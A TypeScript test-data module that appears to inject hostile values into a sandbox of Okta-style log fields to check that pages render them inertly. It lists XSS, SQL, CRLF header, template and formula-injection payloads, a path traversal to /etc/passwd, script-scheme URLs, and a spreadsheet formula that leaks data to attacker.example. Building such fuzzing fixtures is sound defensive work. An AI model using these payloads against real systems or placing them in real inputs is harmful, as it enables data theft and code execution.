import type { SeedRandom } from './random.ts';

/**
 * Values an attacker can place in fields Okta logs verbatim (names, user agents, URLs). Every page that shows
 * sandbox data must render these inertly; about 1% of attacker-controllable values are drawn from here.
 */
export const HOSTILE_VALUES: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "'); alert(1);//",
  '<script>alert(document.cookie)</script>',
  'javascript:alert(1)',
  'Robert"); DROP TABLE users;--',
  'line one\r\nSet-Cookie: injected=1',
  'red \u001b[31mALERT\u001b[0m text',
  'invoice\u202Efdp.exe',
  '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C notepad'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, meant literally
  '${7*7}<%= 7*7 %>',
  '../../../../etc/passwd',
];

/** URLs for url-like fields: the script scheme and look-alikes that must never become live links. */
export const HOSTILE_URLS: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(document.domain)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '/app/"><img src=x onerror=alert(1)>',
  'vbscript:msgbox(1)',
];

/** A user agent of about 2 KB, as a hostile client may send. */
export const LONG_USER_AGENT = `Mozilla/5.0 (X11; Linux x86_64) ${'AppleWebKit/537.36 (KHTML, like Gecko) '.repeat(52)}Chrome/127.0.0.0`;

/** The share of attacker-controllable values that are hostile. */
export const HOSTILE_RATE = 0.01;

/** Usually `value`; with probability `rate` a hostile value instead, no longer than `maxLength` (profile limits). */
export function maybeHostile(
  random: SeedRandom,
  value: string,
  rate = HOSTILE_RATE,
  maxLength = Number.POSITIVE_INFINITY,
): string {
  if (!random.chance(rate)) return value;
  return random.pick(HOSTILE_VALUES.filter((hostile) => hostile.length <= maxLength));
}
